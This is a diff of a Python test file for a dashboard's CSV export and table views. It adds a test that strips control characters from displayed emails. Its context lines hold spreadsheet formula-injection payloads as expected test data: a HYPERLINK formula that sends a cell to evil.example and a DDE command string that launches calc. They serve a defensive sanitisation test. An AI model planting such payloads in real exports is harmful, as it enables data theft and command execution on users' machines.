@@ -162,3 +162,10 @@ def test_csv_never_hands_a_spreadsheet_a_formula() -> None:
     assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|' /C calc'!A0", "-0.25", "-12.5"]
     assert rows[2] == ["'@SUM(A1:A9)", "'\tcell", "0.5", ""]
     assert rows[3] == ["Alice", "plain", "1", "3"]
+
+
+def test_top_users_and_budget_show_people_on_one_line_without_control_characters(engine: Engine) -> None:
+    d = _dash(engine)
+    emails = {"alice": "alice\x07@example.com\n<b>x</b>"}
+    assert views.top_users_table(d, emails).rows[1][0] == "alice@example.com <b>x</b>"
+    assert views.budget_table(d, emails).rows[0][1] == "alice@example.com <b>x</b>"
